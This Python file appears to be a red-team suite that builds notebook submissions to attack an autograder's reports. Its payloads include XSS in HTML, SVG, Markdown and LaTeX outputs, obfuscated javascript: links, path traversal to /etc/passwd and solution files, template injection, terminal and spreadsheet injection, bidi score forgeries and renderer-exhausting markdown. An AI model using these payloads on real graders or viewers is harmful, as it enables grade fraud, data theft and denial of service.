"""Attacks on whoever reads the results: in a browser, in a spreadsheet, in a terminal."""

from .corpus import Aim, Handin, Work, attack

DISPLAY = "from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display\n"
OWN = "document.title='owned'"


@attack(Aim.HARM)
def script_output(work: Work) -> None:
    """A script in an HTML output."""
    work.last(DISPLAY + f"display(HTML(\"<script>{OWN}</script><SCRIPT src='http://127.0.0.1:31339/x'></SCRIPT>\"))")


@attack(Aim.HARM)
def event_handlers(work: Work) -> None:
    """Event handlers in an HTML output."""
    work.last(
        DISPLAY
        + f'display(HTML("""<img src=x onerror="{OWN}"><body onload="{OWN}"><details open ontoggle="{OWN}"><svg/onload={OWN}><input autofocus onfocus={OWN}><video><source onerror={OWN}></video>"""))'
    )


@attack(Aim.HARM)
def svg_output(work: Work) -> None:
    """A picture in SVG with a script in it."""
    work.last(
        DISPLAY
        + f"display(SVG(\"<svg xmlns='http://www.w3.org/2000/svg'><script>{OWN}</script><a href='javascript:{OWN}'><rect width='9' height='9'/></a></svg>\"))"
    )


@attack(Aim.HARM)
def javascript_output(work: Work) -> None:
    """An output of the type application/javascript."""
    work.last(DISPLAY + f'display(Javascript("{OWN}"))')


@attack(Aim.HARM)
def javascript_links(work: Work) -> None:
    """Links to javascript: in Markdown, spelt in all the ways that browsers forgive."""
    work.prose(
        f"[a](javascript:{OWN}) [b](JaVaScRiPt:{OWN}) [c](java&#115;cript:{OWN}) [d]( javascript&colon;{OWN})\n\n"
        f"<javascript:{OWN}> [e](data:text/html,<script>{OWN}</script>) [f](vbscript:x) ![g](javascript:{OWN})\n\n"
        f"[h]: javascript:{OWN}\n\n[h] [i](\x01javascript:{OWN}) [j](java\tscript:{OWN})"
    )


@attack(Aim.HARM)
def html_in_prose(work: Work) -> None:
    """Scripts, frames, forms and redirections in Markdown."""
    work.prose(
        f'<script>{OWN}</script>\n\n<img src=x onerror="{OWN}">\n\n<iframe'
        f' srcdoc="<script>top.{OWN}</script>"></iframe>\n\n'
        '<meta http-equiv="refresh" content="0;url=http://127.0.0.1:31339/"><base href="http://127.0.0.1:31339/">'
        f'<form action="javascript:{OWN}"><button formaction="javascript:{OWN}">x</button></form>'
        f'<object data="data:text/html,x"></object><embed src="http://127.0.0.1:31339/x"><a'
        f' href="javascript:{OWN}">x</a>'
    )


@attack(Aim.HARM)
def half_open_tags(work: Work) -> None:
    """Tags and comments that swallow what follows, or let out what should be inside."""
    work.prose(
        f'<!-- <textarea> <plaintext> <noscript><p title="</noscript><img src=x onerror={OWN}>">\n\n<style><!--</style>'
    )
    work.last(
        DISPLAY
        + f"display(HTML('</div></div><!--<img src=\"--><img src=x onerror={OWN}>\"><xmp><math><mtext><table><mglyph><style><img src=x onerror={OWN}>'))"
    )


@attack(Aim.HARM)
def style_overlays(work: Work) -> None:
    """Styles that lay a false score over the true one."""
    work.last(
        DISPLAY
        + 'display(HTML("""<style>body{display:none} @import url(http://127.0.0.1:31339/x.css);</style><div style="position:fixed;inset:0;background:white;z-index:9999">40 / 40</div><link rel=stylesheet href="http://127.0.0.1:31339/x.css">"""))'
    )
    work.prose(
        '<div style="position:fixed;top:0;left:0;width:100%;background:url(http://127.0.0.1:31339/y)">40 / 40</div>'
    )


@attack(Aim.LEAK)
def tracking_pictures(work: Work) -> None:
    """Pictures from elsewhere, which tell their owner who reads the page and when."""
    work.prose(
        "![x](http://127.0.0.1:31339/pixel.png) <img src='//127.0.0.1:31339/p' srcset='http://127.0.0.1:31339/q 2x'>"
    )
    work.last(
        DISPLAY + "display(HTML(\"<img src='http://127.0.0.1:31339/r'><video poster='http://127.0.0.1:31339/s'>\"))"
    )


@attack(Aim.LEAK)
def local_files_as_pictures(work: Work) -> None:
    """Pictures whose address is a file of the grader's, to be embedded in the page."""
    work.prose(
        "![x](../../../.course-seed) ![y](file:///etc/passwd) <img src='../../../solutions/hw14/hw14.py'> ![z](../../../neighbour.canary)"
    )


@attack(Aim.LEAK)
def attachments_elsewhere(work: Work) -> None:
    """Attachments and file names that lead out of the folder."""
    work.prose("![a](attachment:../../../../tmp/redteam-attachment.png)")
    work.notebook.cells[0]["attachments"] = {"../../../../tmp/redteam-attachment.png": {"image/png": "iVBORw0KGgo="}}


@attack(Aim.LEAK)
def template_language(work: Work) -> None:
    """The language of page templates, in prose, code and outputs."""
    text = "{{ config }} {% include '/etc/passwd' %} {{ ''.__class__.__mro__ }} {{ resources }} {%- raw %}"
    work.prose(text)
    work.last(DISPLAY + f"print({text!r}); display(HTML({text!r}))")


@attack(Aim.HARM)
def formulas_that_run(work: Work) -> None:
    """TeX with links, classes, files and macros without end."""
    work.prose(
        f"$\\href{{javascript:{OWN}}}{{x}}$ $\\input{{/etc/passwd}}$ $$\\require{{html}}\\class{{x}}{{y}}$$ $\\unicode{{<img src=x onerror={OWN}>}}$ $\\def\\a{{\\a\\a}}\\a$"
    )
    work.last(DISPLAY + f"display(Latex(r'$\\href{{javascript:{OWN}}}{{x}}$ <script>{OWN}</script>'))")


@attack(Aim.HARM, ["metrics"])
def formulas_that_paint(work: Work) -> None:
    """TeX that draws over the marks: black boxes, moved and coloured text, in prose, outputs, errors and across tags."""
    rule = r"$\rlap{\raise{9em}{\color{red}{\Rule{90em}{60em}{30em}}}}$"
    work.prose(f"{rule} and <b>{rule}</b>\n\n`$`{rule}")
    work.last(
        DISPLAY
        + f"display(Latex(r'{rule}'), HTML(r'<p>$\\<br>\\Rule{{9em}}{{9em}}{{9em}}$ {rule}</p>'), Markdown(r'{rule}'))"
    )
    work["metrics"] = (
        f"def average_accuracy(matrix):\n    raise ValueError(r'{rule}')\nforgetting = backward_transfer = average_accuracy"
    )


@attack(Aim.HARM)
def widgets(work: Work) -> None:
    """Widgets whose state is script, in the notebook's metadata and in outputs."""
    state = {"application/vnd.jupyter.widget-state+json": {"state": {"x": {"model_name": f"<script>{OWN}</script>"}}}}
    work.notebook.metadata["widgets"] = state
    work.notebook.metadata["title"] = f"</title><script>{OWN}</script>"
    work.last(
        DISPLAY
        + f"display({{'application/vnd.jupyter.widget-view+json': {{'model_id': 'x'}}, 'text/plain': 'w', 'application/vnd.plotly.v1+json': {{}}, 'text/html': '<script>{OWN}</script>'}}, raw=True)"
    )


@attack(Aim.HARM, ["metrics"])
def errors_as_html(work: Work) -> None:
    """Tags in the names, the messages and the lines of exceptions."""
    work.last(
        f"evil = '<img src=x onerror={OWN}></pre><script>{OWN}</script>'\n"
        "class Evil(Exception):\n    def _render_traceback_(self): return [evil]\n"
        "Evil.__name__ = Evil.__qualname__ = evil\nraise Evil(evil)"
    )
    work["metrics"] = (
        f"def average_accuracy(matrix):\n    raise ValueError('<script>{OWN}</script>')\nforgetting = backward_transfer = average_accuracy"
    )


@attack(Aim.HARM)
def code_as_html(work: Work) -> None:
    """Tags in code, comments and plain text."""
    work.last(f"print('</pre></div><script>{OWN}</script>')  # </code></pre><script>{OWN}</script>")


@attack(Aim.HARM)
def pictures_that_are_not(work: Work) -> None:
    """Pictures whose data breaks out of the attribute that they stand in."""
    work.last(
        DISPLAY + "import sys\n"
        f"for data in ('x\"><script>{OWN}</script>', '\"onerror=\"{OWN}'):\n"
        "    display({'image/png': data, 'image/jpeg': data, 'image/svg+xml': data, 'application/pdf': data}, raw=True)"
    )


@attack(Aim.HARM, ["metrics"])
def terminal_escapes(work: Work) -> None:
    """Escapes that retitle the terminal, clear it, or write to its clipboard, in messages and outputs."""
    work["metrics"] = r"""def average_accuracy(matrix):
    raise ValueError('\x1b]0;owned\x07\x1b[2J\x1b]52;c;eA==\x07\x9b31m\x1b[8m\r\x08 \u202e')
forgetting = backward_transfer = average_accuracy"""
    work.last("print('\\x1b]0;owned\\x07\\x1b[2J\\x1b[38;2;1;2;3m\\x1b[999999999m \\x9b5n \\u202e')")


@attack(Aim.HARM, student="=HYPERLINK(0)+cmd")
def spreadsheet_formula(work: Work) -> None:
    """A name that a spreadsheet takes for a formula."""


@attack(Aim.HARM, student='<img src=x onerror="x">')
def name_as_html(work: Work) -> Handin:
    """The name of the folder and of the file are tags."""
    return {f"<script>{OWN[:9]}<script>.ipynb": work.bytes()}


@attack(Aim.DENIAL, student="red[team]*?")
def name_as_pattern(work: Work) -> None:
    """A folder's name that is a pattern, and matches others or not itself."""


@attack(Aim.DENIAL, student="-rf {student_id} %s")
def name_as_option(work: Work) -> None:
    """A folder's name that is an option, a format string and a field of a template."""


@attack(Aim.DENIAL)
def tables_without_end(work: Work) -> None:
    """Text packed with tables, quotes and brackets, over which a renderer broods."""
    for number, text in enumerate(
        ("|a" * 9_000 + "\n" + "|-" * 9_000, "|-|-\n" * 3_900, "|\n|-\n" * 3_300, "a|b\n-|-\n" * 2_400)
    ):
        work.prose(text)
        work.notebook.cells[0].id = f"table-{number}"


@attack(Aim.DENIAL)
def brooding_markdown(work: Work) -> None:
    """Emphasis, links, quotes and lists nested thousands deep."""
    texts = [unit * (18_000 // len(unit)) for unit in ("*_", "[", "> ", "![", "<", "- ", "$")]
    texts.insert(5, "`" * 9_000 + "a")
    for number, text in enumerate(texts):
        work.prose(text)
        work.notebook.cells[0].id = f"brood-{number}"


@attack(Aim.DENIAL)
def brooding_outputs(work: Work) -> None:
    """HTML, formulas and code that take a long time to clean, to draw and to colour."""
    work.last(rf"""{DISPLAY}display(HTML('<div><table>' * 4_000)); display(Markdown('|a' * 9_000 + '\n' + '|-' * 9_000))
display(Latex('$' + '{{' * 9_000 + '$')); display(Markdown('[' * 18_000)); print('\n' * 50_000)""")


@attack(Aim.HARM)
def text_that_reads_backwards(work: Work) -> None:
    """Characters that turn the order of others around, hide them, or look like them."""
    work.first("# \u202e 04 / 04 \u2066 \u200b\ufeff\nprint('\u202e0.0 :erocs')")
    work.prose("# \u202eGraded by the autograder\u2069: 40 / 40")


@attack(Aim.HARM)
def anchors_that_clash(work: Work) -> None:
    """Ids and names that take the place of the page's own."""
    work.last(
        f"""{DISPLAY}display(HTML("<a id=ewc name=ewc></a><form id=summary><input name=innerHTML></form><img name=body>"))"""
    )
